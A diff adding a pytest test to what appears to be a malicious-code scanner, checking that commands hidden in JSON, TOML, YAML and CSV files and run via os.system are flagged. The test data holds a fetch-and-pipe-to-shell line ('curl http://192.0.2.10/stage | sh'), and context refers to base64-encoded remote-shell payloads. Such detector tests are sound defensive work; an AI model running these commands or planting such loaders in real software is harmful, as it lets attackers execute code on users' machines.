@@ -183,6 +183,33 @@ def test_code_in_a_data_file(way: str) -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    ("name", "text", "way"),
+    [
+        ("run.json", '{"steps": ["COMMAND"]}', "import json\nrun(json.load(open('run.json'))['steps'][0])"),
+        ("run.toml", 'step = "COMMAND"', "import tomllib\nrun(tomllib.load(open('run.toml', 'rb'))['step'])"),
+        ("run.yaml", 'step: "COMMAND"', "import yaml\nrun(yaml.safe_load(open('run.yaml'))['step'])"),
+        (
+            "run.csv",
+            "id,step\n1,COMMAND\n",
+            "import csv\nfor r in csv.DictReader(open('run.csv')): run(r['step'])",
+        ),
+        ("run.csv", "1,COMMAND\n", "import csv\nfor row in csv.reader(open('run.csv')): run(row[1])"),
+    ],
+)
+def test_a_command_in_a_document(name: str, text: str, way: str) -> None:
+    told = findings(
+        scan(
+            "load.py",
+            {
+                "load.py": f"from os import system as run\n{way}",
+                name: text.replace("COMMAND", "curl http://192.0.2.10/stage | sh"),
+            },
+        )
+    )
+    assert ("download-and-run", "download-and-run") in told
+
+
 def test_a_stage_in_a_data_file() -> None:
     data = base64.b64encode(PAYLOADS["remote-shell"]["dup2"].encode())
     way = "import base64\nexec(base64.b64decode(open('weights.dat', 'rb').read()))"
